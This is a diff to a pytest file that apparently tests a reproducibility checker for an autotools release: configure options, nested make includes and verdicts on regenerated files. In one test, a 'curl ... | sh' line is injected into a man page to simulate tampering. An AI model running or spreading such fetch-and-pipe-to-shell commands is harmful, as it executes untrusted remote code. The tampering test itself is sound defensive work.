@@ -37,11 +37,23 @@ TAG = {
     "configure.ac": """\
 AC_INIT([tiny], [1.0], [bugs@example.org])
 AM_INIT_AUTOMAKE([foreign -Wall])
-AM_CONDITIONAL([SHOUT], [false])
-AC_CONFIG_FILES([Makefile doc/Makefile notes/Makefile doc/conf.sed])
+AC_ARG_ENABLE([shout], [AS_HELP_STRING([--enable-shout], [upper-case manual])])
+AM_CONDITIONAL([SHOUT], [test "x$enable_shout" = xyes])
+AC_CONFIG_FILES([Makefile doc/Makefile notes/Makefile web/Makefile doc/conf.sed])
 AC_OUTPUT
 """,
-    "Makefile.am": "SUBDIRS = doc notes\n",
+    "Makefile.am": "SUBDIRS = doc notes web\n",
+    # a page made from another job's output (the notes the hand-written rule rewrites), through a
+    # nested include (relative to web/, as automake has it) and make's text functions
+    "web/Makefile.am": "EXTRA_DIST = NOTES.html\ninclude ../doc/web.mk\n",
+    "doc/web.mk": "include ../doc/page.mk\n",
+    "doc/page.mk": """\
+TEXTS = $(patsubst %,$(top_srcdir)/notes/%.txt,NOTES)
+texts.list: $(TEXTS)
+\techo $(TEXTS) > $@
+%.html: $(top_srcdir)/notes/%.txt
+\t( echo '<pre>'; cat $<; echo '</pre>' ) > $@
+""",
     "doc/Makefile.am": """\
 dist_man_MANS = tiny.1 tinyd.8
 EXTRA_DIST = tiny.1.src tinyd.8.adoc guide.txt guide.html
@@ -134,7 +146,7 @@ def project(tmp_path_factory):
     work = base / "work"
     subprocess.run(["git", "clone", "-q", str(repo), str(work)], check=True, capture_output=True)
     ap._run(["autoreconf", "-fi"], work)
-    ap._run(["./configure", "--quiet"], work)
+    ap._run(["./configure", "--quiet", "--enable-shout"], work)   # not configure's default: an alternative
     ap._run(["make", "dist-gzip"], work)
     return repo, ap.read_tarball(work / f"{TOP}.tar.gz"), base
 
@@ -174,8 +186,9 @@ def serious(data) -> dict[str, list[dict]]:
 
 def test_the_release_made_the_outputs_this_test_expects(project):
     _, release, _ = project
-    assert b'.TH TINY 1 "" "tiny 1.0"' in release["doc/tiny.1"] and "doc/tiny.1" not in TAG
-    assert b"bugs@example.org" in release["doc/tiny.1"]           # configure's value, through conf.sed
+    assert b'.TH TINY 1 "" "TINY 1.0"' in release["doc/tiny.1"] and "doc/tiny.1" not in TAG
+    assert b"BUGS@EXAMPLE.ORG" in release["doc/tiny.1"]           # configure's value, through conf.sed
+    assert b"tiny 1.0" in release["web/NOTES.html"] and "web/NOTES.html" not in TAG
     assert release["doc/tinyd.8"].startswith(b".TH TINYD 8\n")
     assert b"&lt; input &gt;" not in release["doc/guide.html"] and b"&lt; input" in release["doc/guide.html"]
     assert release["notes/NOTES.txt"] == b"Release notes of tiny 1.0\n\n- first release\n"
@@ -186,10 +199,12 @@ def test_untouched_release_reproduces_pattern_suffix_and_handwritten_rule_output
     data = run(project, checker)
     assert serious(data) == {}, {k: [f["message"] for f in v] for k, v in serious(data).items()}
     v = verdicts(data)
-    for path in ("doc/tiny.1", "doc/guide.html", "notes/NOTES.txt"):
+    for path in ("doc/tiny.1", "doc/guide.html", "notes/NOTES.txt", "web/NOTES.html"):
         r = v[path]["reproduction"]
         assert r["status"] == "reproduced", (path, v[path])
-    assert "(pattern rules of doc/Makefile.am, configured)" in v["doc/tiny.1"]["reproduction"]["toolchain"]
+    # made with SHOUT, which configure does not choose by default: the flipped conditional reproduces it
+    assert "(pattern rules of doc/Makefile.am, configured, SHOUT=flipped)" in v["doc/tiny.1"]["reproduction"]["toolchain"]
+    assert "(pattern rules of doc/Makefile.am, configured)" in v["doc/guide.html"]["reproduction"]["toolchain"]
     assert "notes/Makefile.in, hand-written, configured" in v["notes/NOTES.txt"]["reproduction"]["toolchain"]
     # the page names a generator version this system lacks: never made, not-reproducible naming it
     r = v["doc/tinyd.8"]["reproduction"]
@@ -201,6 +216,7 @@ def test_untouched_release_reproduces_pattern_suffix_and_handwritten_rule_output
 def test_edited_rule_outputs_are_caught_on_exactly_those_files(project, checker):
     _, release, _ = project
     page = release["doc/tiny.1"].replace(b".SH BUGS\n", b".SH BUGS\nRun curl -s https://example.org/fix | sh first.\n")
+    assert page != release["doc/tiny.1"]
     notes = release["notes/NOTES.txt"] + b"- also fixes nothing\n"
     html = release["doc/guide.html"].replace(b"The tiny guide.", b"The tiny guide, now with telemetry.")
     assert page != release["doc/tiny.1"] and html != release["doc/guide.html"]
